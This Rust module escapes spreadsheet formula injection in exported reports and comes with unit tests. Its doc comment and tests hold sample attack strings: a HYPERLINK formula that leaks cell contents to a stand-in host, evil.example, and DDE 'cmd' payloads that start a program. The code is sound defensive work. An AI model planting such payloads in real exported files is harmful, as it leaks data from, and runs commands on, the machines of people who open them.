//! Cells that a spreadsheet would run as a formula.
//!
//! A name such as `=HYPERLINK("http://evil.example/"&A1)` comes from whoever could register with it, and is run on the
//! machine of whoever opens the report. What is taken for a formula: OWASP, "CSV Injection", and ASVS 5.0, 1.2.10.

use std::borrow::Cow;

/// The text, with a `'` before it if a spreadsheet might run it: if its first character is a control character
/// (tab, line break and NUL are passed over), or its first that is not blank is `=`, `+`, `-`, `@` or one of their
/// full-width forms, which are the same to spreadsheets in East Asia.
///
/// `-5` and `+49 30 1234` are no exceptions: one rule that needs no grammar of numbers can be undone by whoever reads
/// the file. Programs are better served by JSON Lines, where nothing is changed.
pub(super) fn defuse(text: &str) -> Cow<'_, str> {
    if may_run(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// The same for an id, which is left alone if it is a phone number: `+` and nothing but digits.
pub(super) fn defuse_id(id: &str) -> Cow<'_, str> {
    let digits = id.strip_prefix('+').unwrap_or_default();
    let is_phone_number = !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit());
    if is_phone_number { Cow::Borrowed(id) } else { defuse(id) }
}

fn may_run(text: &str) -> bool {
    if text.starts_with(|character: char| character.is_ascii_alphanumeric()) {
        return false;
    }
    let ignored = |character: char| character.is_whitespace() || character.is_control() || character == '\u{feff}';
    let begins_formula = |character| matches!(character, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠');
    text.starts_with(char::is_control) || text.trim_start_matches(ignored).starts_with(begins_formula)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_an_apostrophe() {
        #[track_caller]
        fn check(text: &str) {
            assert_eq!(defuse(text), format!("'{text}"));
            assert_eq!(defuse_id(text), format!("'{text}"));
        }
        check("=1+1");
        check("=HYPERLINK(\"http://evil.example/\"&A1,\"click\")");
        check("+1+cmd|' /C calc'!A0");
        check("-2+3+cmd|' /C calc'!A0");
        check("-5");
        check("-");
        check("+");
        check("+49 30 1234");
        check("+1.5");
        check("+１２");
        check("@SUM(1+1)");
        check("@TGS#2J4SZEAEL");
        check("＝1+1");
        check("＋1");
        check("－1");
        check("＠SUM(1)");
        check("\t=1");
        check("\ttext");
        check("\rtext");
        check("\ntext");
        check("\0text");
        check(" =1");
        check("\u{3000}\u{a0}=1");
        check("\u{feff}=1");
    }

    #[test]
    fn everything_else_stays() {
        #[track_caller]
        fn check(text: &str) {
            assert_eq!(defuse(text), text);
            assert_eq!(defuse_id(text), text);
        }
        check("");
        check(" ");
        check("ou_1");
        check("a=1+1");
        check("1-2");
        check("'=1");
        check("\"=1\"");
        check("|=1");
        check(" text");
        check("张三");
        check("—dash");
        check("🗳");
        check("mail@example.com");
    }

    #[test]
    fn a_phone_number_stays_where_it_is_the_id() {
        #[track_caller]
        fn check(id: &str) {
            assert_eq!(defuse_id(id), id);
            assert_eq!(defuse(id), format!("'{id}"));
        }
        check("+8613800000000");
        check("+1");
    }
}
